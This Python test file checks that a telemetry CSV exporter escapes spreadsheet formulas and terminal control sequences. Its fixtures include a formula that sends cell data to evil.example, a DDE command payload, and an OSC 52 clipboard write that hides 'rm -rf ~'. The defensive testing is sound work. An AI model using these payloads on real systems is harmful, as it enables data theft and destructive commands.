"""cloud/export.py CSV: device-chosen text cannot become a spreadsheet formula (audit
csv_formula.py), and numbers stay numbers."""

from __future__ import annotations

import csv
import io

from agent.wire.records import TelemetryBody
from cloud.export import write
from cloud.storage import StoredRecord

T = 1_700_000_000.0
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def stored(seq: int, sensor: str, values: dict[str, float]) -> StoredRecord:
    body = TelemetryBody(sensor, T, values).to_cbor()
    return StoredRecord("pump-01", seq, "telemetry", T, T, T, seq, body)


def test_formula_injection_in_sensor_and_channel_names_is_escaped() -> None:
    """Attack: a device names its sensor and channels with formulas; an operator opens the
    export in a spreadsheet. Every text cell starting with = + - @ tab or CR gets a leading '."""
    recs = [
        stored(1, FORMULA, {"=cmd|' /C calc'!A0": 1.0, "+x": 2.0, "@y": 3.0}),
        stored(2, "-s", {"\tz": -1.5, "plain": -2.0}),
    ]
    out = io.StringIO()
    assert write(recs, out, "csv") == 5
    cells = list(csv.DictReader(io.StringIO(out.getvalue())))
    for row in cells:
        for name in ("sensor", "channel"):
            assert row[name][0] not in "=+-@\t\r", row
    assert cells[0]["sensor"] == "'" + FORMULA
    assert [r["channel"] for r in cells[3:]] == ["'\tz", "plain"]
    assert [r["value"] for r in cells[3:]] == ["-1.5", "-2.0"]  # numbers as they are
    out = io.StringIO()
    write([stored(3, "s", {"\r=1+1": 1.0, "a\rb": 2.0})], out, "csv")
    # a bare CR (which the writer does not quote: readers took it for the end of a row) is
    # carried as a line feed, which it quotes
    assert ',"\'\n=1+1",' in out.getvalue()
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["channel"] for r in rows] == ["'\n=1+1", "a\nb"]


def test_escape_sequences_and_bidi_controls_in_text_cells_are_shown_not_sent() -> None:
    """Attack: a device names its sensor and channels with terminal escapes (OSC 52 writes the
    clipboard, CSI moves the cursor and erases a line, OSC 0 sets the title), a right-to-left
    override and a NUL; the operator prints the CSV or opens it. Each control character is in
    the cell as visible text (``\\x1b``, ``\\u202e``); the line feed a CSV cell may hold stays,
    and the formula and CR rules hold as before."""
    osc52 = "\x1b]52;c;cm0gLXJmIH4K\x07"
    recs = [
        stored(1, "pump" + osc52, {"x\x1b[1A\x1b[2K": 1.0, "\u202eevil\u202c": 2.0}),
        stored(2, "\x00=1+1", {"a\rb\x9b": 3.0, "-\x1b]0;pwned\x07": 4.0}),
    ]
    out = io.StringIO()
    assert write(recs, out, "csv") == 4
    text = out.getvalue()
    for raw in ("\x1b", "\x07", "\x00", "\x9b", "\u202e", "\u202c"):
        assert raw not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["sensor"] == "pump\\x1b]52;c;cm0gLXJmIH4K\\x07"
    assert [r["channel"] for r in rows[:2]] == ["x\\x1b[1A\\x1b[2K", "\\u202eevil\\u202c"]
    assert rows[2]["sensor"] == "\\x00=1+1"  # starts with a backslash now: no formula
    assert [r["channel"] for r in rows[2:]] == ["'-\\x1b]0;pwned\\x07", "a\nb\\x9b"]
